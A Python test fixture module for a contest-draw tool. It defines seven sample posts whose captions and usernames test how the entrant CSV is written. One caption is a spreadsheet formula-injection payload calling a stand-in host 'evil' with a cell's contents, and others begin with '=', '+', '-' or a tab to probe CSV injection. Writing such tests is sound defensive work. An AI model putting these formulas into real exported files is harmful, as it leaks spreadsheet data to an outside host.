"""A draw made with the first canonical entrant-list format (``entrants-csv/1``), kept as files.

``fixtures/entrants-csv-1/`` holds the entrant list and the draw record that ``listener draw
commit`` and ``listener draw`` wrote for :data:`MEDIA` (campaign ``summer`` of
``tests.contests.campaign.settings_for``), seed :data:`SEED`, at :data:`COMMITTED_AT` and
:data:`DRAWN_AT`, before that format was replaced. Every author is known and no caption mentions
its own author, so later rules keep exactly these entrants: the same store state still produces
the same first-format list, byte for byte.
"""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime
from pathlib import Path
from typing import Final

from listener.models import Media
from tests.contests.campaign import media

FIXTURES: Final = Path(__file__).parent / "fixtures" / "entrants-csv-1"
ENTRANTS: Final = FIXTURES / "summer-entrants.csv"
RECORD: Final = FIXTURES / "summer-draw.json"
SEED: Final = "the first format's seed"
SEED_HASH: Final = hashlib.sha256(SEED.encode()).hexdigest()
COMMITTED_AT: Final = datetime(2026, 6, 30, 9, 0, tzinfo=UTC)
DRAWN_AT: Final = datetime(2026, 7, 1, 9, 0, tzinfo=UTC)


def _media(media_id: str, minutes: int, caption: str, username: str) -> Media:
    return media(media_id, minutes=minutes, caption=caption, username=username)


MEDIA: Final = (
    _media("301", 1, '=HYPERLINK("http://evil/?"&A1,"win") #summerdrop @ana', "zoe"),
    _media("302", 2, '+1, "quoted", and more #summerdrop @bo\nsecond line', "yan"),
    _media("303", 3, "-2 #summerdrop @cy \u200fright-to-left\u200f 🎉", "xi"),
    _media("304", 4, "@dee #summerdrop\tafter a tab", "wu"),
    _media("305", 5, "#summerdrop @eve", "=vic"),
    _media("306", 6, "#summerdrop @ana again", "zoe"),
    _media("307", 7, "\t#summerdrop @fay", "uma"),
)
"""Seven media seen through ``/tags``: six entrants, and zoe's second post a duplicate."""
